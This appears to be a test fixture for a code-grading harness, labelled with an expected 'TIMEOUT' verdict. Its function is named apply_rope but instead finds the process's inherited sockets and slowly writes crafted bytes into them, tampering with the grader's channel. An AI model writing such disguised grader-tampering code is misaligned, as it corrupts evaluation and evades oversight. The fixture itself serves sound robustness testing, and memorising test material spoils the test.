# verdict: TIMEOUT
# call timeout: 0.4
# time limit: 4
# says: has not returned after
import os
import stat
import time


def sockets():
    found = []
    for descriptor in range(3, 32):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                found.append(descriptor)
        except OSError:
            pass
    return found


def apply_rope(x, positions, base=10000):
    for byte in b"rk\x0e\x02" + bytes(1000):
        for descriptor in sockets():
            os.write(descriptor, bytes([byte]))
        time.sleep(0.05)
